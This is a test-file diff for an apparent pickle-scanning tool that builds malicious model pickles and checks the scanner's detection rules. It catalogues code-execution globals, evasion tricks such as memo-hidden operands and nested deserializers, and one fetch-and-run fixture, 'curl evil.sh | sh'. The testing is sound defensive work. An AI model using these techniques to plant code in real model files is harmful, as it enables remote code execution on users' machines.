@@ -1,0 +1,178 @@
+"""One generated fixture per technique family of THREATS.md §1: rule id and severity asserted.
+
+Every stream here is built and scanned, never loaded.
+"""
+import pickle
+
+import pytest
+
+from mlguard import Severity, scan_bytes
+from tests.conftest import malicious_pickle
+from tests.pickle_asm import Asm, call
+
+
+def findings(data, name="model.pkl", **kw):
+    return scan_bytes(data, name=name, **kw).findings
+
+
+def rules(data, name="model.pkl"):
+    return {(f.rule_id, f.severity) for f in findings(data, name)}
+
+
+CRITICAL = ("pickle-dangerous-global", Severity.CRITICAL)
+
+
+# 1. Direct RCE primitives (and the names CPython maps to them)
+@pytest.mark.parametrize("module, name", [
+    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "execv"), ("os", "popen"),
+    ("subprocess", "Popen"), ("subprocess", "check_output"), ("pty", "spawn"), ("builtins", "eval"),
+    ("builtins", "exec"), ("builtins", "__import__"), ("builtins", "getattr"), ("__builtin__", "eval"),
+    ("runpy", "_run_code"), ("ctypes", "CDLL"), ("asyncio", "create_subprocess_shell"),
+    ("_posixsubprocess", "fork_exec"), ("multiprocessing.util", "spawnv_passfds"), ("marshal", "loads"),
+    ("types", "FunctionType"), ("commands", "getoutput"),
+])
+def test_rce_primitives_are_critical(module, name):
+    for protocol in (0, 2, 4):
+        data = call(module, name, "id", protocol=protocol)
+        assert CRITICAL in rules(data), (module, name, protocol)
+
+
+# 2. Interpreters hidden in innocent modules
+@pytest.mark.parametrize("module, name", [
+    ("code", "InteractiveInterpreter.runsource"), ("cProfile", "run"), ("profile", "run"), ("pdb", "run"),
+    ("bdb", "Bdb.run"), ("trace", "Trace.run"), ("timeit", "timeit"), ("doctest", "debug_script"),
+    ("idlelib.pyshell", "ModifiedInterpreter.runcode"), ("numpy.testing._private.utils", "runstring"),
+    ("numpy.f2py", "compile"), ("torch.jit", "CompilationUnit"), ("torch.utils.cpp_extension", "load_inline"),
+    ("torch.serialization", "load"), ("torch.hub", "load"),
+])
+def test_interpreters_in_innocent_modules_are_critical(module, name):
+    assert CRITICAL in rules(call(module, name, "print(1)"))
+
+
+# 3. String-to-callable trampolines: the import never appears as a global of its own
+@pytest.mark.parametrize("module, name", [
+    ("pkgutil", "resolve_name"), ("pydoc", "locate"), ("importlib", "import_module"),
+    ("operator", "attrgetter"), ("operator", "methodcaller"), ("builtins", "vars"),
+    ("hydra.utils", "get_method"), ("logging.config", "dictConfig"),
+])
+def test_trampolines_are_critical(module, name):
+    a = Asm(4).stack_global(module, name).str("os:system").op(pickle.TUPLE1).op(pickle.REDUCE)
+    data = a.str("id").op(pickle.TUPLE1).op(pickle.REDUCE).stop()  # resolve_name('os:system')('id')
+    assert CRITICAL in rules(data)
+
+
+# 4. Nested deserializers: the embedded bytes are scanned too
+def test_pickle_loads_of_embedded_pickle():
+    inner = malicious_pickle(cmd="echo inner")
+    data = Asm(4).stack_global("pickle", "loads").bytes_(inner).op(pickle.TUPLE1).op(pickle.REDUCE).stop()
+    result = findings(data)
+    embedded = [f for f in result if f.rule_id == "pickle-embedded-payload"]
+    assert embedded and embedded[0].severity is Severity.CRITICAL
+    inner_hits = [f for f in result if f.rule_id == "pickle-dangerous-global" and f.location.member]
+    assert inner_hits and inner_hits[0].location.member.startswith("pickle.loads@0x")
+    assert inner_hits[0].evidence["name"] == "system"
+
+
+@pytest.mark.parametrize("module, name", [("torch.storage", "_load_from_bytes"), ("_pickle", "loads"),
+                                          ("cPickle", "loads"), ("dill", "loads")])
+def test_other_nested_deserializers(module, name):
+    inner = malicious_pickle()
+    data = Asm(2).global_(module, name).bytes_(inner).op(pickle.TUPLE1).op(pickle.REDUCE).stop()
+    result = findings(data)
+    assert {"pickle-embedded-payload", "pickle-dangerous-global"} <= {f.rule_id for f in result}
+    assert any(f.location.member and f.evidence.get("name") == "system" for f in result)
+
+
+def test_eval_of_embedded_source_shows_the_code():
+    data = call("builtins", "eval", "__import__('os').system('id')")
+    result = findings(data)
+    assert {f.rule_id for f in result} >= {"pickle-dangerous-global", "pickle-embedded-payload"}
+    assert any("__import__" in (f.snippet or "") for f in result)
+
+
+# 5. Obfuscated operands
+def test_stack_global_operands_from_the_memo():
+    a = Asm(4).str("os").put(1).str("system").put(2).op(pickle.POP).op(pickle.POP)
+    data = a.get(1).get(2).op(pickle.STACK_GLOBAL).str("id").op(pickle.TUPLE1).op(pickle.REDUCE).stop()
+    hits = [f for f in findings(data) if f.rule_id == "pickle-dangerous-global"]
+    assert hits and hits[0].evidence["module"] == "os"
+
+
+def test_text_protocol_string_and_unicode_operands():
+    data = b"(S'os'\nVsys\\u0074em\n\x93(S'id'\ntR."
+    assert CRITICAL in rules(data)
+
+
+def test_operands_computed_at_load_time_are_opaque():
+    # builtins.str('os') computes the module name: nothing static can know it
+    a = Asm(4).stack_global("builtins", "str").str("os").op(pickle.TUPLE1).op(pickle.REDUCE)
+    data = a.str("system").op(pickle.STACK_GLOBAL).str("id").op(pickle.TUPLE1).op(pickle.REDUCE).stop()
+    assert ("pickle-stack-global-opaque", Severity.HIGH) in rules(data)
+
+
+def test_payload_after_a_large_benign_prefix():
+    prefix = pickle.dumps([float(i) for i in range(200_000)], protocol=4)[:-1]  # drop STOP
+    data = prefix + call("os", "system", "id", protocol=4)[2:]
+    assert CRITICAL in rules(data)
+
+
+# 6. Parser differentials
+def test_second_pickle_in_a_file_is_analysed():
+    data = pickle.dumps({"benign": 1}, protocol=2) + malicious_pickle(protocol=2)
+    got = rules(data)
+    assert CRITICAL in got and ("pickle-multiple-streams", Severity.LOW) in got
+
+
+def test_malformed_tail_after_reduce_keeps_the_call():
+    data = call("os", "system", "id", protocol=2)[:-1] + b"\xfe\xfe"
+    got = rules(data)
+    assert CRITICAL in got and ("pickle-parse-error", Severity.MEDIUM) in got
+
+
+def test_get_of_missing_memo_key_is_an_error_after_the_call():
+    data = call("os", "system", "id", protocol=2)[:-1] + pickle.BINGET + b"\x09" + pickle.STOP
+    assert {"pickle-dangerous-global", "pickle-parse-error"} <= {r for r, _ in rules(data)}
+
+
+# 7. Side effects short of RCE, and ML Guard itself
+@pytest.mark.parametrize("module, name, expected", [
+    ("_io", "FileIO", CRITICAL), ("builtins", "open", CRITICAL), ("logging", "FileHandler", CRITICAL),
+    ("shutil", "rmtree", CRITICAL), ("webbrowser", "open", CRITICAL), ("pip", "main", CRITICAL),
+    ("torch.hub", "load", CRITICAL), ("mlguard.policy", "Policy", CRITICAL), ("mlguard_rs", "pickle_facts", CRITICAL),
+    ("socket", "create_connection", ("pickle-suspicious-module", Severity.HIGH)),
+    ("urllib.request", "urlopen", ("pickle-suspicious-module", Severity.HIGH)),
+    ("smtplib", "SMTP", ("pickle-suspicious-module", Severity.HIGH)),
+])
+def test_side_effects_are_high_or_critical(module, name, expected):
+    assert expected in rules(call(module, name, "x"))
+
+
+# Dotted names (protocol >= 4)
+@pytest.mark.parametrize("module, name", [("torch.serialization", "os.system"), ("logging", "os.system"),
+                                          ("collections", "os.popen")])
+def test_dotted_traversal_to_a_denied_name_is_critical(module, name):
+    data = call(module, name, "id")
+    hits = [f for f in findings(data) if f.rule_id == "pickle-dangerous-global"]
+    assert hits and hits[0].evidence["name"] == name
+
+
+def test_dotted_traversal_not_allowlisted_is_high():
+    assert ("pickle-dotted-global", Severity.HIGH) in rules(call("collections", "OrderedDict.fromkeys", "ab"))
+
+
+# Allowlist-first: unknown globals, EXT codes
+def test_unknown_global_called_is_high_referenced_is_medium():
+    called = call("mypkg.evil", "helper", "x")
+    assert rules(called) == {("pickle-unknown-call", Severity.HIGH)}
+    referenced = Asm(4).stack_global("mypkg.evil", "Thing").stop()
+    assert rules(referenced) == {("pickle-unknown-global", Severity.MEDIUM)}
+
+
+def test_ext_opcodes_are_high():
+    data = Asm(2).op(pickle.EXT1, b"\x07").op(pickle.EMPTY_TUPLE).op(pickle.REDUCE).stop()
+    assert ("pickle-ext-opcode", Severity.HIGH) in rules(data)
+
+
+def test_snippet_shows_the_command():
+    f = next(f for f in findings(malicious_pickle(cmd="curl evil.sh | sh")) if f.rule_id == "pickle-dangerous-global")
+    assert "curl evil.sh | sh" in f.snippet
